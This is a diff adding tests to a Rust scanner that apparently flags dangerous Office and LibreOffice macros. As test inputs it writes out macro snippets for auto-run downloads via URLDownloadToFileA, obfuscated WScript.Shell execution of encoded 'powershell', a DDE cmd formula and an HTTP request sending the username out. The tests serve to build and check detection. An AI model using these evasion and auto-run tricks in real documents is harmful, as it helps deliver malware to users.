@@ -43,6 +43,22 @@ fn a_download_that_is_started_is_dangerous() {
 }
 
 #[test]
+fn two_libraries_under_one_name_are_told_apart_by_module() {
+    let declare = |library: &str, function: &str| {
+        format!(
+            "Private Declare Function f Lib \"{library}\" Alias \"{function}\" (ByVal a As Long) As Long\nSub A()\nf 1\nEnd Sub\n"
+        )
+    };
+    let found = judged(&[
+        ("M", Kind::Standard, &(declare("urlmon", "URLDownloadToFileA") + "Sub Auto_Open()\nA\nEnd Sub")),
+        ("N", Kind::Standard, &declare("kernel32", "Sleep")),
+    ]);
+    assert_eq!(found.verdict, Verdict::Dangerous, "{:#?}", found.modules);
+    assert_eq!(found.modules[0].calls[0].code, "downloads-file");
+    assert_eq!(found.modules[1].calls[0].code, "other-library");
+}
+
+#[test]
 fn a_reversed_text_that_starts_a_command_host_is_dangerous() {
     let source = "Sub Workbook_Open()\n Dim o, c\n c = StrReverse(\"neddih w- llehsrewop\")\n\
         Set o = CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\n o.Run c, 0\nEnd Sub";
@@ -91,6 +107,7 @@ fn harm_in_many_dresses_is_never_called_harmless() {
         "Range(\"A1\").Formula = \"=cmd|'/c calc'!A1\"",
         "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"http://a.example\", False\nx.Send Environ(\"USERNAME\")",
         "Set s = CreateObject(\"ADODB.Stream\")\nSet x = CreateObject(\"MSXML2.ServerXMLHTTP\")\ns.SaveToFile p, 2",
+        "CreateObject(turn(\"llehS.tpircSW\")).Run decode(\"706f7765727368656c6c\")",
         "a = \"W\"\na = a & \"Script\"\na = a & \".Shell\"\nCreateObject(a).Run x",
     ];
     for body in dangerous {
@@ -112,6 +129,8 @@ fn harm_in_many_dresses_is_never_called_harmless() {
         "For i = 1 To Len(s)\nr = r & Chr(Asc(Mid(s, i, 1)) Xor 9)\nNext",
         "x = \"power\" & \"shell\"",
         "CallByName o, n, VbMethod",
+        "x = decode(\"cG93ZXJzaGVsbA==\")",
+        "x = turn(\"llehS.tpircSW\")",
         "Set q = GetObject(\"winmgmts:\").ExecQuery(\"SELECT * FROM Win32_BIOS\")",
     ];
     for body in suspicious {
@@ -148,6 +167,13 @@ fn words_that_only_look_like_calls_are_none() {
     // A project's own procedures of such names are its own.
     let own = standard("Sub Auto_Open()\n Shell \"x\"\n Kill 1\nEnd Sub\nSub Shell(a)\nEnd Sub\nSub Kill(a)\nEnd Sub");
     assert_eq!(own.verdict, Verdict::RunsHarmless);
+    // But those of others that cannot be called by the bare name hide nothing.
+    for (kind, declared) in [(Kind::Standard, "Private Sub Shell(a)"), (Kind::Class, "Public Sub Shell(a)")] {
+        let other = format!("{declared}\nEnd Sub");
+        let opens = "Sub Auto_Open()\n Shell \"calc.exe\"\nEnd Sub";
+        let found = judged(&[("M", Kind::Standard, opens), ("N", kind, &other)]);
+        assert_eq!(found.verdict, Verdict::Dangerous);
+    }
     // A class with a Run method is no script shell.
     let class = judged(&[
         ("Module1", Kind::Standard, "Sub Auto_Open()\n Dim j As New Job\n j.Run \"x\"\nEnd Sub"),
@@ -233,4 +259,62 @@ fn what_it_would_reveal_is_told_apart_from_the_verdict() {
     assert_eq!(found.verdict, Verdict::RunsHarmless, "{:#?}", found.reasons);
     let told: Vec<_> = found.reveals.iter().map(|r| (r.code.as_str(), r.place.as_str(), r.target.as_str())).collect();
     assert_eq!(told, [("environment", "Module1 2", "COMPUTERNAME"), ("user", "Module1 2", "")]);
+}
+
+/// An open document with a module of Basic; its text is escaped as LibreOffice does.
+fn open_document(source: &str) -> Vec<u8> {
+    let escaped = source.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;");
+    let module = format!(
+        "<?xml version=\"1.0\"?><script:module script:name=\"Module1\" script:language=\"StarBasic\">{escaped}</script:module>"
+    );
+    super::making::zip(&[
+        ("content.xml", b"<office:document-content/>"),
+        ("Basic/Standard/script-lb.xml", b"<library:library/>"),
+        ("Basic/Standard/Module1.xml", module.as_bytes()),
+    ])
+}
+
+#[test]
+fn basic_of_an_open_document_is_followed_from_its_events() {
+    use workbook::sheets::{Container, Link, LinkKind};
+    let source = "Sub Main\n  Shell(\"calc\" & \".exe\", 2)\nEnd Sub\nSub Auto_Open\n  Main\nEnd Sub";
+    let inspect = |kind, target: &str| {
+        let mut survey = super::making::survey(Container::Ods);
+        survey.links = vec![Link { kind, part: "content.xml".to_owned(), target: target.to_owned(), carried: None }];
+        workbook::inspect::inspect(&open_document(source), Some("a.ods"), Ok(&survey))
+    };
+    let href = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document";
+    let opened = inspect(LinkKind::Event, &format!("dom:load {href}"));
+    assert_eq!(opened.verdict, Verdict::Dangerous, "{:#?}", opened.reasons);
+    assert_eq!(opened.modules[0].place, "Basic/Standard");
+    assert_eq!((opened.modules[0].calls[0].line, opened.modules[0].calls[0].argument.as_str()), (2, "calc.exe"));
+    // By itself it does not start: Auto_Open means nothing there.
+    assert_eq!(inspect(LinkKind::Hyperlink, "x").verdict, Verdict::Suspicious);
+    let clicked = inspect(LinkKind::MacroButton, &format!("dom:click {href}"));
+    assert_eq!(clicked.modules[0].calls[0].when, Some(When::Click));
+    let elsewhere = "dom:load vnd.sun.star.script:x.py$main?language=Python&location=user";
+    assert!(inspect(LinkKind::Event, elsewhere).reasons.iter().any(|r| r.code == "event-unread"));
+}
+
+#[test]
+fn the_call_backs_of_a_ribbon_start_what_they_name() {
+    use workbook::sheets::{Container, Link, LinkKind};
+    let source = [(
+        "M",
+        Kind::Standard,
+        "Sub Loaded(r As IRibbonUI)\n Shell \"calc.exe\"\nEnd Sub\nSub Go(c As IRibbonControl)\nEnd Sub",
+    )];
+    assert_eq!(judged(&source).modules[0].calls[0].when, None);
+    let mut survey = super::making::survey(Container::Xlsm);
+    survey.links = vec![Link {
+        kind: LinkKind::Ribbon,
+        part: "customUI/customUI.xml".to_owned(),
+        target: "onLoad=Loaded".to_owned(),
+        carried: None,
+    }];
+    let known = workbook::inspect::Knowledge::built_in().unwrap();
+    let started = [workbook::inspect::Started { name: "Loaded".to_owned(), when: When::Open }];
+    let found = workbook::inspect::analyse(known, &super::making::project(&source), &started, true, &["excel"]);
+    assert_eq!(found.modules[0].calls[0].when, Some(When::Open));
+    assert_eq!(found.modules[0].autoexec[1].when, When::Click);
 }
